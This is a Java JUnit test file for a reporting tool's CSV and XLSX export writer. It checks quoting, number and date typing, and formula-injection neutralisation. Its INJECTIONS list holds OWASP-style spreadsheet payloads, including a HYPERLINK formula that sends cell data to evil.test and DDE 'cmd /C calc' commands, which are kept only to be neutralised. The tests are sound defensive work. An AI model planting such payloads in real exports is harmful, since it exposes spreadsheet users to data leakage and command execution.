package com.certdesk.reporting.internal;

import static org.assertj.core.api.Assertions.assertThat;

import com.certdesk.reporting.ExportFormat;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.List;
import java.util.zip.ZipEntry;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The export writers: formula injection (the cases of OWASP's "CSV Injection" page) neutralised in CSV and XLSX,
 * numbers as numbers, dates as dates, quotes, line breaks and non-ASCII text kept, the BOM and CRLF of CSV, the
 * frozen, filtered header of XLSX.
 */
class ExportWriterTest {

    record Item(String name, @Nullable Integer count, @Nullable Double share, @Nullable LocalDate day,
            @Nullable LocalDateTime at) {
    }

    private static final List<ExportColumn<Item>> COLUMNS = List.of(ExportColumn.text("Name", 30, Item::name),
            ExportColumn.number("Count", 8, Item::count), ExportColumn.number("Share", 8, Item::share),
            ExportColumn.date("Day", Item::day), ExportColumn.dateTime("At", Item::at));

    /** OWASP's examples, and the other starts Excel and LibreOffice read as formulas. */
    private static final List<String> INJECTIONS = List.of("=1+2", "=HYPERLINK(\"http://evil.test?x=\"&A1,\"Click\")",
            "+1+2", "-1+2", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", "\n=1+2",
            "=cmd|' /C notepad'!'A1'", "-2+3+cmd|' /C calc'!A0");

    private static final List<Item> ITEMS = List.of(
            new Item("Zoë \"the \u201cfirst\u201d\", O'Brien", 12, 0.825, LocalDate.of(2026, 12, 3),
                    LocalDateTime.of(2026, 12, 3, 9, 30, 15)),
            new Item("two\nlines, and a comma", -5, -1.5, null, null),
            new Item("", null, null, null, null));

    private static byte[] write(ExportFormat format, List<Item> items) {
        var out = new ByteArrayOutputStream();
        long n = ExportWriter.write(format, out, "Items", COLUMNS, row -> items.forEach(row));
        assertThat(n).isEqualTo(items.size());
        return out.toByteArray();
    }

    private static List<Item> injections() {
        return INJECTIONS.stream().map(text -> new Item(text, null, null, null, null)).toList();
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+2", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1"})
    void text_starting_as_a_formula_gets_an_apostrophe(String text) {
        assertThat(ExportWriter.neutralised(text)).isEqualTo("'" + text);
    }

    @Test
    void a_counted_export_counts_each_row_written_in_every_format_and_an_uncounted_one_nothing() {
        for (ExportFormat format : ExportFormat.values()) {
            var rows = new java.util.concurrent.atomic.AtomicLong();
            var seen = new java.util.ArrayList<Long>();
            ExportProgress.counting(rows, () -> ExportWriter.write(format, OutputStream.nullOutputStream(), "Items",
                    COLUMNS, row -> ITEMS.forEach(item -> {
                        seen.add(rows.get());
                        row.accept(item);
                    })));
            assertThat(rows.get()).as(format.name()).isEqualTo(ITEMS.size());
            assertThat(seen).as("the count before each row, " + format).startsWith(0L, 1L);
        }
        var untouched = new java.util.concurrent.atomic.AtomicLong();
        ExportProgress.counting(untouched, () -> { });
        ExportWriter.write(ExportFormat.CSV, OutputStream.nullOutputStream(), "Items", COLUMNS,
                row -> ITEMS.forEach(row));
        assertThat(untouched.get()).isZero();
    }

    @Test
    void other_text_is_left_alone() {
        assertThat(ExportWriter.neutralised("")).isEmpty();
        assertThat(ExportWriter.neutralised("Anna = Bob")).isEqualTo("Anna = Bob");
        assertThat(ExportWriter.neutralised(" =1")).isEqualTo(" =1");
        assertThat(ExportWriter.neutralised("'quoted")).isEqualTo("'quoted");
    }

    @Test
    void csv_is_utf8_with_a_bom_crlf_quoted_where_needed_numbers_plain_and_dates_iso() throws IOException {
        byte[] bytes = write(ExportFormat.CSV, ITEMS);
        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, StandardCharsets.UTF_8).substring(1);
        assertThat(text).startsWith("Name,Count,Share,Day,At\r\n");
        List<CsvRecord> records = CsvReader.builder().ofCsvRecord(text).stream().toList();
        assertThat(records).hasSize(4);
        assertThat(records.get(1).getFields()).containsExactly("Zoë \"the \u201cfirst\u201d\", O'Brien", "12", "0.825",
                "2026-12-03", "2026-12-03 09:30:15");
        assertThat(records.get(2).getFields()).containsExactly("two\nlines, and a comma", "-5", "-1.5", "", "");
        assertThat(records.get(3).getFields()).containsExactly("", "", "", "", "");
        assertThat(text).contains("\"Zoë \"\"the");
    }

    @Test
    void csv_neutralises_every_injection_and_keeps_negative_numbers_as_numbers() throws IOException {
        String text = new String(write(ExportFormat.CSV, injections()), StandardCharsets.UTF_8).substring(1);
        List<CsvRecord> records = CsvReader.builder().ofCsvRecord(text).stream().skip(1).toList();
        assertThat(records).extracting(r -> r.getField(0)).containsExactlyElementsOf(INJECTIONS.stream()
                .map(s -> "'" + s).toList());
        String numbers = new String(write(ExportFormat.CSV, ITEMS.subList(1, 2)), StandardCharsets.UTF_8);
        assertThat(numbers).contains(",-5,-1.5,");
    }

    @Test
    void xlsx_has_typed_cells_dates_as_dates_and_neutralised_text() throws IOException {
        List<Item> items = new java.util.ArrayList<>(ITEMS);
        items.addAll(injections());
        byte[] bytes = write(ExportFormat.XLSX, items);
        try (var workbook = new ReadableWorkbook(new ByteArrayInputStream(bytes))) {
            List<Row> rows = workbook.getFirstSheet().read();
            assertThat(workbook.getFirstSheet().getName()).isEqualTo("Items");
            assertThat(rows).hasSize(1 + items.size());
            assertThat(rows.get(0).getCellAsString(0)).hasValue("Name");
            Row first = rows.get(1);
            assertThat(first.getCellAsString(0)).hasValue("Zoë \"the \u201cfirst\u201d\", O'Brien");
            assertThat(first.getCell(1).getType()).isEqualTo(CellType.NUMBER);
            assertThat(first.getCellAsNumber(1)).hasValue(new BigDecimal("12"));
            assertThat(first.getCellAsNumber(2)).hasValue(new BigDecimal("0.825"));
            assertThat(first.getCell(3).getType()).as("a date is a number with a date format")
                    .isEqualTo(CellType.NUMBER);
            assertThat(first.getCellAsDate(3)).hasValue(LocalDateTime.of(2026, 12, 3, 0, 0));
            assertThat(first.getCellAsDate(4)).hasValue(LocalDateTime.of(2026, 12, 3, 9, 30, 15));
            assertThat(rows.get(2).getCellAsString(0)).hasValue("two\nlines, and a comma");
            assertThat(rows.get(2).getCellAsNumber(1)).hasValue(new BigDecimal("-5"));
            for (int i = 0; i < INJECTIONS.size(); i++) {
                var cell = rows.get(1 + ITEMS.size() + i).getCell(0);
                assertThat(cell.getType()).isEqualTo(CellType.STRING);
                assertThat(cell.asString()).isEqualTo("'" + INJECTIONS.get(i));
            }
        }
        String sheet = entry(bytes, "xl/worksheets/sheet1.xml");
        assertThat(sheet).contains("state=\"frozen\"").contains("<autoFilter ref=\"A1:E" + (1 + items.size()) + "\"");
        assertThat(sheet).doesNotContain("<f>");
    }

    @Test
    void an_empty_export_has_its_header_row() throws IOException {
        try (var workbook = new ReadableWorkbook(new ByteArrayInputStream(write(ExportFormat.XLSX, List.of())))) {
            assertThat(workbook.getFirstSheet().read()).hasSize(1);
        }
        assertThat(new String(write(ExportFormat.CSV, List.of()), StandardCharsets.UTF_8))
                .isEqualTo("\uFEFFName,Count,Share,Day,At\r\n");
    }

    /** An entry of the workbook, read through the zip's central directory as Excel reads it. */
    private static String entry(byte[] zip, String name) throws IOException {
        java.nio.file.Path file = java.nio.file.Files.createTempFile("export", ".xlsx");
        try {
            java.nio.file.Files.write(file, zip);
            try (var workbook = new java.util.zip.ZipFile(file.toFile())) {
                ZipEntry e = workbook.getEntry(name);
                assertThat(e).as(name).isNotNull();
                return new String(workbook.getInputStream(e).readAllBytes(), StandardCharsets.UTF_8);
            }
        } finally {
            java.nio.file.Files.delete(file);
        }
    }
}
